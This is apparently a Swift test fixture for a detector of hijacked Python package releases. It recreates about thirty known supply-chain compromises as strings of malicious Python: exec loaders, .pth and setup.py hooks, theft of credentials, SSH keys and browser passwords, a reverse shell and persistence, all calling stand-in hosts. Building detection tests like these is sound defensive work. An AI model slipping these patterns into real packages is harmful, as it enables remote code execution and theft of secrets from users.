import ReleaseDifferences
import Testing
import UTC

/// A release that somebody else than its maintainers made, written anew after what was seen since 2022, with payloads that
/// do nothing: the hosts do not exist, and what would be run is not code.
struct Takeover: Sendable, CustomTestStringConvertible {
    let name: String
    var kind = ReleaseInventory.Kind.wheel(isForAnyPlatform: true)
    /// What the release before had.
    let before: [String: String]
    /// What this one adds or replaces.
    let after: [String: String]
    var doubts: [String: DependencyDoubt] = [:]
    /// The sdist of the same release, where the wheel alone was changed.
    var source: [String: String]?
    /// Another uploader, tool and part of the network: somebody who came by a token.
    var isStolenToken = false
    var testDescription: String { name }

    /// Bytes that nobody wrote, as text: base64 of them.
    static func blob(_ length: Int, seed: UInt64 = 7) -> String {
        let signs = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
        var state = seed
        return String(
            (0..<length).map { _ in
                state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
                return signs[Int(state >> 58)]
            })
    }

    static let metadata = "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nRequires-Dist: requests\n\ntext\n"

    /// A client of some service, as many are: it speaks to the network and starts nothing.
    static let client = [
        ".dist-info/METADATA": metadata,
        "demo/__init__.py": "from .client import Client\n\n__version__ = '1.0'\n",
        "demo/client.py": """
        import os
        import requests

        class Client:
            def __init__(self, token=None):
                self.token = token or os.environ.get("DEMO_TOKEN")

            def get(self, path):
                return requests.get("https://api.example.org/" + path, timeout=5).json()

        """,
        "demo/utils.py":
            "def chunks(items, size):\n    for start in range(0, len(items), size):\n        yield items[start:start + size]\n",
    ]

    /// A library that computes.
    static let library = [
        ".dist-info/METADATA": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n\ntext\n",
        "demo/__init__.py": "from .core import words\n",
        "demo/core.py": "def words(number):\n    return str(number)\n",
        "demo/lang_en.py": "UNITS = ['one', 'two', 'three']\n",
    ]

    /// A large project that can do everything already.
    static let framework = [
        ".dist-info/METADATA": metadata,
        "demo/__init__.py": "from .engine import train\n",
        "demo/engine.py":
            "import subprocess\n\ndef train(args):\n    return subprocess.run(['demo-train', *args], check=True)\n",
        "demo/downloads.py": """
        import subprocess
        from urllib import request

        import requests

        def safe_download(url, file):
            subprocess.run(['curl', '-L', url, '-o', file], check=True)

        """,
        "demo/proxy/server.py": "import base64\nimport os\nimport httpx\n\ndef start():\n    return httpx.Client()\n",
        "demo/hub.py":
            "import requests\n\ndef login(key):\n    return requests.post('https://hub.example.org', json={'key': key})\n",
    ]

    /// The sdist of a library.
    static let source = [
        "demo-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n\n",
        "demo-1.0/pyproject.toml":
            "[build-system]\nrequires = ['setuptools']\nbuild-backend = 'setuptools.build_meta'\n",
        "demo-1.0/setup.py": "from setuptools import setup\n\nsetup(name='demo', version='1.0', packages=['demo'])\n",
        "demo-1.0/demo/__init__.py": "def words(number):\n    return str(number)\n",
    ]

    static let all: [Takeover] = content + hooks + ways
}

// What is in them.
extension Takeover {
    static let content: [Takeover] = [
        Takeover(
            name: "aiocpa: the client decodes fifty layers and runs them when it is imported", before: client,
            after: [
                "demo/utils.py":
                    "import zlib\nimport base64\n\nexec((lambda b: zlib.decompress(base64.b64decode(b[::-1])))(b'"
                    + blob(2_400) + "'))\n"
            ]),
        Takeover(
            name: "litellm 1.82.7: the proxy hands a decoded program to a new interpreter", before: framework,
            after: [
                "demo/proxy/server.py":
                    "import base64\nimport os\nimport subprocess\nimport sys\nimport httpx\n\nB64 = '" + blob(6_000)
                    + "'\nsubprocess.Popen([sys.executable, '-c', f'exec(__import__(\"base64\").b64decode(\"{B64}\"))'])\n\ndef start():\n    return httpx.Client()\n"
            ], isStolenToken: true),
        Takeover(
            name: "ultralytics: downloads fetch a program, make it executable and start it", before: framework,
            after: [
                "demo/downloads.py": """
                import os
                import platform
                import subprocess
                from urllib import request

                import requests

                def safe_run(path):
                    os.chmod(path, 0o770)
                    subprocess.Popen([path, '-u', 'wallet', '--url', 'pool.example.invalid:8080'])

                def safe_download(url, file):
                    if platform.system() == 'Linux':
                        request.urlretrieve('https://example.invalid/connect', '/tmp/ultralytics_runner')
                        safe_run('/tmp/ultralytics_runner')
                    subprocess.run(['curl', '-L', url, '-o', file], check=True)

                """
            ], isStolenToken: true),
        Takeover(
            name: "num2words: a library that computes fetches something and starts it", before: library,
            after: [
                "demo/__init__.py":
                    "import os, sys, tempfile, urllib.request, subprocess\nfrom .core import words\ntry:\n    p = os.path.join(tempfile.gettempdir(), 'u.exe')\n    urllib.request.urlretrieve('https://example.invalid/u', p)\n    subprocess.Popen([p])\nexcept Exception:\n    pass\n"
            ], isStolenToken: true),
        Takeover(
            name: "ctx: a dictionary sends the environment", before: library,
            after: [
                "demo/core.py": """
                import base64
                import os
                import requests

                def words(number):
                    sendRequest()
                    return str(number)

                def sendRequest():
                    text = str(dict(os.environ).items()) if False else repr(os.environ)
                    key = os.environ.get('AWS_SECRET_ACCESS_KEY')
                    requests.get('https://example.invalid/hacked/' + base64.b64encode(text.encode()).decode())

                """
            ]),
        Takeover(
            name: "phpass: environment variables of a cloud go to somebody else's host", before: library,
            after: [
                "demo/core.py":
                    "import os\nfrom urllib.request import urlopen\n\ndef words(number):\n    a = os.environ.get('AWS_ACCESS_KEY_ID')\n    b = os.environ.get('AWS_SECRET_ACCESS_KEY')\n    urlopen('https://example.invalid/' + str(a) + '/' + str(b))\n    return str(number)\n"
            ]),
        Takeover(
            name: "loglib: the metadata of the cloud are asked for keys", before: client,
            after: [
                "demo/utils.py":
                    "import requests\n\ndef chunks(items, size):\n    return items\n\ndef setup():\n    role = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/').text\n    requests.post('http://example.invalid:8000', data={'r': role})\n\nsetup()\n"
            ]),
        Takeover(
            name: "xinference: three layers of base64 in the first file", before: framework,
            after: [
                "demo/__init__.py":
                    "from .engine import train\nimport base64 as _b\ntest = \"" + blob(9_000, seed: 3)
                    + "\"\nexec(_b.b64decode(_b.b64decode(test)))\n"
            ]),
        Takeover(
            name: "telnyx: code in a picture's sound, decoded and run", before: framework,
            after: [
                "demo/hub.py": """
                import base64
                import subprocess
                import sys
                import urllib.request
                import wave
                import requests

                def setup():
                    urllib.request.urlretrieve('http://example.invalid/ringtone.wav', 'r.wav')
                    with wave.open('r.wav') as sound:
                        data = base64.b64decode(sound.readframes(sound.getnframes()))
                    subprocess.run([sys.executable, '-'], input=bytes(b ^ data[0] for b in data[8:]))

                setup()

                def login(key):
                    return requests.post('https://hub.example.org', json={'key': key})

                """
            ], isStolenToken: true),
        Takeover(
            name: "lightning: a hidden folder has a runtime in another language, started at import", before: framework,
            after: [
                "demo/_runtime/start.py":
                    "import subprocess\nimport os\nfrom urllib import request\n\ndef go():\n    request.urlretrieve('https://example.invalid/bun.zip', '/tmp/b')\n    os.chmod('/tmp/b', 0o755)\n    subprocess.Popen(['/tmp/b', 'run', os.path.join(os.path.dirname(__file__), 'router.js')])\n",
                "demo/_runtime/router.js": "const _0x=['" + blob(4_000) + "'];",
                "demo/__init__.py":
                    "import threading\nfrom .engine import train\nfrom ._runtime import start\nthreading.Thread(target=start.go, daemon=True).start()\n",
            ]),
        Takeover(
            name: "durabletask: the client fetches a second stage and starts it", before: client,
            after: [
                "demo/__init__.py":
                    "from .client import Client\nimport os, urllib.request, subprocess\nif os.name == 'posix':\n    urllib.request.urlretrieve('https://example.invalid/rope.pyz', '/tmp/managed.pyz')\n    subprocess.Popen(['python3', '/tmp/managed.pyz'], start_new_session=True)\n"
            ], isStolenToken: true),
        Takeover(
            name: "a wallet's address is exchanged in what is copied", before: client,
            after: [
                "demo/utils.py":
                    "import pyperclip\nimport requests\nimport re\n\ndef chunks(items, size):\n    return items\n\ndef watch():\n    text = pyperclip.paste()\n    if re.match('^bc1', text):\n        pyperclip.copy(requests.get('https://example.invalid/w').text)\n"
            ]),
        Takeover(
            name: "a shell back to somebody else's machine", before: library,
            after: [
                "demo/core.py":
                    "import os\nimport pty\nimport socket\n\ndef words(number):\n    if os.fork() == 0:\n        s = socket.socket()\n        s.connect(('example.invalid', 4444))\n        for f in (0, 1, 2):\n            os.dup2(s.fileno(), f)\n        pty.spawn('/bin/sh')\n    return str(number)\n"
            ], isStolenToken: true),
        Takeover(
            name: "marshalled bytecode in a file of data", before: library,
            after: [
                "demo/lang_en.py":
                    "import marshal, zlib, pkgutil\nUNITS = ['one']\nexec(marshal.loads(zlib.decompress(pkgutil.get_data('demo', 'en.dat'))))\n",
                "demo/en.dat": noise(3_000),
            ]),
        Takeover(
            name: "a picture that is none is decrypted and run", before: client,
            after: [
                "demo/logo.png": noise(5_000),
                "demo/utils.py":
                    "import os, base64\n\ndef chunks(items, size):\n    return items\n\nwith open(os.path.join(os.path.dirname(__file__), 'logo.png'), 'rb') as f:\n    exec(base64.b64decode(bytes(b ^ 0x5a for b in f.read())))\n",
            ]),
        Takeover(
            name: "browsers' passwords are collected and sent", before: client,
            after: [
                "demo/utils.py":
                    "import glob, os, sqlite3, requests\n\ndef chunks(items, size):\n    return items\n\ndef collect():\n    for file in glob.glob(os.path.expanduser('~/.config/google-chrome/*/Login Data')):\n        requests.post('https://example.invalid/up', files={'f': open(file, 'rb')})\n\ncollect()\n"
            ]),
        Takeover(
            name: "keys for other machines are read and sent through a chat", before: library,
            after: [
                "demo/core.py":
                    "import glob, os, urllib.request\n\ndef words(number):\n    for key in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n        urllib.request.urlopen('https://api.telegram.org/bot1/sendDocument', data=open(key, 'rb').read())\n    return str(number)\n"
            ]),
        Takeover(
            name: "names are put together so that nobody finds them", before: library,
            after: [
                "demo/core.py":
                    "import base64\n\ndef words(number):\n    return str(number)\n\ngetattr(__import__('builtins'), 'ex' + 'ec')(base64.b64decode('"
                    + blob(900) + "'))\neval(compile(base64.b64decode('" + blob(400, seed: 9) + "'), 'x', 'exec'))\n"
            ]),
        Takeover(
            name: "a library in machine code is called, where all was Python", before: library,
            after: [
                "demo/core.py":
                    "import ctypes, os\n_l = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'fast.so'))\n\ndef words(number):\n    return str(number)\n",
                "demo/fast.so": "\u{7F}ELF" + blob(3_000),
            ], isStolenToken: true),
    ]

    /// Bytes that are spread evenly, as far as a text can have them.
    static func noise(_ length: Int) -> String {
        var state: UInt64 = 99
        return String(
            String.UnicodeScalarView(
                (0..<length).map { _ in
                    state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
                    return Unicode.Scalar(UInt8(state >> 56))
                }))
    }
}

// What runs without being imported.
extension Takeover {
    static let hooks: [Takeover] = [
        Takeover(
            name: "litellm 1.82.8: a .pth file starts a program with every interpreter", before: framework,
            after: [
                "demo_init.pth":
                    "import os, subprocess, sys; subprocess.Popen([sys.executable, \"-c\", \"import base64; exec(base64.b64decode('"
                    + blob(2_000) + "'))\"])\n"
            ]),
        Takeover(
            name: "woodpecker: a .pth file and a script for another runtime", before: library,
            after: [
                "demo-setup.pth":
                    "import os, subprocess; subprocess.Popen(['bun', 'run', os.path.join(sitedir, 'demo', '_index.js')])\n",
                "demo/_index.js": "eval(atob('" + blob(8_000) + "'))",
            ]),
        Takeover(
            name: "mrmustard: a .pth file that imports a module, and stays", before: library,
            after: [
                "zz_demo.pth": "import demo._hook\n",
                "demo/_hook.py":
                    "import os\np = os.path.expanduser('~/.config/systemd/user/sys.service')\nopen(p, 'w').write('x')\nos.system('systemctl --user enable sys')\n",
            ]),
        Takeover(
            name: "elementary-data: a .pth file in a client's wheel", before: client,
            after: ["elementary.pth": "import base64;exec(base64.b64decode('" + blob(1_200) + "'))\n"]),
        Takeover(
            name: "sitecustomize comes along", before: library,
            after: ["sitecustomize.py": "import urllib.request\nurllib.request.urlopen('https://example.invalid/b')\n"]),
        Takeover(
            name: "setup.py replaces the installation and fetches a program", kind: .sourceDistribution, before: source,
            after: [
                "demo-1.1/setup.py":
                    "import os, urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Run(install):\n    def run(self):\n        install.run(self)\n        urllib.request.urlretrieve('https://example.invalid/s', '/tmp/s')\n        os.system('sh /tmp/s')\n\nsetup(name='demo', version='1.1', packages=['demo'], cmdclass={'install': Run})\n"
            ]),
        Takeover(
            name: "a build backend of its own sends the environment", kind: .sourceDistribution, before: source,
            after: [
                "demo-1.1/pyproject.toml":
                    "[build-system]\nrequires = []\nbuild-backend = 'backend'\nbackend-path = ['_build']\n",
                "demo-1.1/_build/backend.py":
                    "import os, json, urllib.request\n\ndef build_wheel(*a, **k):\n    urllib.request.urlopen('https://example.invalid', data=json.dumps(dict(os.environ)).encode())\n",
            ]),
        Takeover(
            name: "setup.py decodes and runs at once", kind: .sourceDistribution, before: source,
            after: [
                "demo-1.1/setup.py":
                    "from setuptools import setup\nimport base64\nexec(base64.b64decode('" + blob(700)
                    + "'))\nsetup(name='demo', version='1.1', packages=['demo'])\n"
            ]),
        Takeover(
            name: "a command takes the place of pip", before: library,
            after: [
                ".dist-info/entry_points.txt": "[console_scripts]\npip = demo.core:main\n",
                "demo/core.py":
                    "import subprocess, sys\n\ndef words(number):\n    return str(number)\n\ndef main():\n    subprocess.run([sys.executable, '-m', 'pip', *sys.argv[1:]])\n",
            ], isStolenToken: true),
    ]

    /// What shows in where it comes from.
    static let ways: [Takeover] = [
        Takeover(
            name: "the wheel has what the sdist has not", before: library,
            after: [
                "demo/_telemetry.py":
                    "import os\nfrom urllib import request\n\ndef send():\n    request.urlopen('https://example.invalid', data=str(dict(os.environ)).encode())\n",
                "demo/__init__.py": "from .core import words\nfrom . import _telemetry\n_telemetry.send()\n",
            ],
            source: [
                "demo-1.1/demo/__init__.py": "from .core import words\n",
                "demo-1.1/demo/core.py": library["demo/core.py"] ?? "",
            ]),
        Takeover(
            name: "pygrata: the payload is a dependency that came last week", before: library,
            after: [
                ".dist-info/METADATA":
                    "Metadata-Version: 2.1\nName: demo\nVersion: 1.1\nRequires-Dist: loglib-modules\n\n"
            ],
            doubts: ["loglib-modules": .young(.days(6))], isStolenToken: true),
        Takeover(
            name: "a dependency that is called almost like a known one", before: client,
            after: [
                ".dist-info/METADATA":
                    "Metadata-Version: 2.1\nName: demo\nVersion: 1.1\nRequires-Dist: requests\nRequires-Dist: rsquests (>=2)\n\n"
            ],
            doubts: ["rsquests": .lookAlike(of: "requests")], isStolenToken: true),
    ]
}
